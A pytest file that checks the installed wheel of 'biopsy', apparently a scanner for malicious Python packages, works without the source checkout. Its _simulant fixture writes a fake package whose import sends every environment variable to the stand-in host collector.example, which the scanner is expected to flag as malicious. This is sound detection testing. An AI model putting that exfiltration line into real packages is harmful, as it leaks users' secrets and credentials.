"""The wheel is whole: rules, schemas, drivers, profiles and templates work where there is no checkout."""

import json
import os
import subprocess
import sys
import sysconfig
import venv
from pathlib import Path

import pytest

ROOT = Path(__file__).parent.parent


@pytest.fixture(scope="session")
def installed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    """A clean environment with the built wheel in it; its dependencies are those of this one, and no more."""
    folder = tmp_path_factory.mktemp("wheel")
    build = [sys.executable, "-m", "build", "--wheel", "--no-isolation", "--outdir", folder, ROOT]
    subprocess.run(build, check=True, capture_output=True)
    venv.create(folder / "venv", with_pip=False)
    python = folder / "venv" / "bin" / "python"
    wheel = next(folder.glob("*.whl"))
    pip = [sys.executable, "-m", "pip", "--python", python]
    subprocess.run([*pip, "install", "-q", "--no-deps", "--no-index", wheel], check=True)
    # A folder on PYTHONPATH is searched, but its .pth files are not read: the checkout stays out of sight.
    env = {**os.environ, "PYTHONPATH": sysconfig.get_path("purelib"), "PYTHONSAFEPATH": "1"}
    return folder / "venv" / "bin" / "biopsy", env


def _run(installed: tuple[Path, dict[str, str]], *args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    command, env = installed
    return subprocess.run([command, *args], env=env, cwd=cwd, capture_output=True, text=True, check=False)


def _simulant(folder: Path) -> Path:
    (folder / "sim_thing").mkdir(parents=True)
    (folder / "sim_thing" / "__init__.py").write_text(
        "import os, urllib.request\n"
        "urllib.request.urlopen('https://collector.example/in', data=repr(dict(os.environ)).encode())\n"
    )
    (folder / "setup.py").write_text(
        "from setuptools import setup\nsetup(name='sim-thing', version='1.0', packages=['sim_thing'])\n"
    )
    return folder


def test_the_wheel_runs_from_its_own_files(installed: tuple[Path, dict[str, str]], tmp_path: Path) -> None:
    python = installed[0].parent / "python"
    asked = subprocess.run(
        [python, "-c", "import biopsy; print(biopsy.__file__)"],
        env=installed[1],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=True,
    )
    assert Path(asked.stdout.strip()).is_relative_to(installed[0].parent.parent)


def test_the_wheel_holds_rules_that_pass_their_own_examples(
    installed: tuple[Path, dict[str, str]], tmp_path: Path
) -> None:
    assert _run(installed, "rules", "test", cwd=tmp_path).returncode == 0


def test_the_wheel_reads_a_simulant_without_the_checkout(
    installed: tuple[Path, dict[str, str]], tmp_path: Path
) -> None:
    folder = _simulant(tmp_path / "sim")
    env = {**installed[1], "BIOPSY_HOME": str(tmp_path / "home")}
    done = _run(
        (installed[0], env), "analyze", "--static-only", "--format", "json", str(folder), cwd=tmp_path
    )
    assert json.loads(done.stdout)["verdict"] == "malicious", done.stderr


@pytest.mark.sandbox
def test_the_wheel_runs_a_simulant_without_the_checkout(
    installed: tuple[Path, dict[str, str]], tmp_path: Path, home: Path
) -> None:
    folder = _simulant(tmp_path / "sim")
    env = {**installed[1], "BIOPSY_HOME": str(home)}
    options = ("--profile", "laptop", "--phases", "install,import", "--format", "json")
    done = _run((installed[0], env), "analyze", *options, str(folder), cwd=tmp_path)
    report = json.loads(done.stdout)
    assert "canary.leak" in {b["kind"] for b in report["behaviours"]}, done.stderr
